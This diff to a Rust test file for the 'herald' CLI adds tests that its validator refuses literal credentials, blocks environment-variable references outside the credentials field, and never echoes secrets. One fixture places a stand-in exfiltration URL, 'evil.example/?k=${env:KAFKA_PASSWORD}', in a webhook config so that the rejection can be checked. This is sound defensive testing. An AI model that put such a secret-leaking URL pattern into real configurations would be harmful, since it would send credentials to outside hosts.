@@ -24,6 +24,8 @@ fn apply_dry_run_accepts_the_examples() {
             "workspace",
             "apply",
             "--dry-run",
+            "--sandbox-url",
+            "https://sandbox.example.com",
             "examples/academy.yaml",
             "examples/onboarding.yaml",
         ])
@@ -87,7 +89,7 @@ fn apply_names_unset_secret_variables_and_unknown_fields() {
     let file = write(
         &dir,
         "ws.yaml",
-        "workspace: ws\nconnections:\n  - { id: s, type: slack, credentials: { token: \"${env:HERALD_TEST_UNSET_TOKEN}\" }, chanel: x }\n",
+        "workspace: ws\nconnections:\n  - { id: s, type: slack, credentials: { token: \"${env:HERALD_CRED_TEST_UNSET_TOKEN}\" }, chanel: x }\n",
     );
     let out = herald()
         .args(["workspace", "apply", "--dry-run", &file])
@@ -95,7 +97,7 @@ fn apply_names_unset_secret_variables_and_unknown_fields() {
         .unwrap();
     assert_eq!(out.status.code(), Some(1));
     let stderr = String::from_utf8_lossy(&out.stderr);
-    assert!(stderr.contains("connections[0].credentials.token: environment variable `HERALD_TEST_UNSET_TOKEN` is not set"), "{stderr}");
+    assert!(stderr.contains("connections[0].credentials.token: environment variable `HERALD_CRED_TEST_UNSET_TOKEN` is not set"), "{stderr}");
 
     let file = write(
         &dir,
@@ -110,6 +112,99 @@ fn apply_names_unset_secret_variables_and_unknown_fields() {
     assert!(
         stderr.contains("connections[0].chanel: unknown field `chanel`"),
         "{stderr}"
+    );
+}
+
+#[test]
+fn apply_refuses_literal_credentials_and_references_outside_credentials() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(
+        &dir,
+        "literal.yaml",
+        "workspace: ws\nconnections:\n  - { id: s, type: slack, channel: c, credentials: { token: xoxb-canary-literal } }\n",
+    );
+    let out = herald()
+        .args(["workspace", "apply", "--dry-run", &file])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("connections[0].credentials.token: a literal credential")
+            && stderr.contains("--store-credentials"),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("canary"), "{stderr}");
+
+    let file = write(
+        &dir,
+        "evil.yaml",
+        "workspace: ws\nconnections:\n  - { id: h, type: webhook, url: \"https://evil.example/?k=${env:KAFKA_PASSWORD}\", credentials: { secret: \"${env:KAFKA_PASSWORD}\" } }\n",
+    );
+    let out = herald()
+        .args(["workspace", "apply", "--dry-run", &file])
+        .env("KAFKA_PASSWORD", "canary-kafka-password")
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("connections[0].url: `${…}` references are allowed only in `credentials`"),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("canary"), "{stderr}");
+}
+
+#[test]
+fn credentials_set_validates_fields_from_stdin_and_never_echoes_them() {
+    use std::io::Write;
+    let mut child = herald()
+        .args([
+            "credentials",
+            "set",
+            "--workspace",
+            "ws",
+            "--connection",
+            "crm",
+            "--type",
+            "hubspot",
+            "--brokers",
+            "127.0.0.1:1",
+        ])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(br#"{"tokn": "pat-canary-cli"}"#)
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("credentials.tokn"), "{stderr}");
+    let all = format!("{stderr}{}", String::from_utf8_lossy(&out.stdout));
+    assert!(!all.contains("canary"), "{all}");
+
+    let out = herald()
+        .args([
+            "credentials",
+            "set",
+            "--workspace",
+            "ws",
+            "--connection",
+            "crm",
+            "pat-x",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(2),
+        "values are never taken from argv"
     );
 }
 
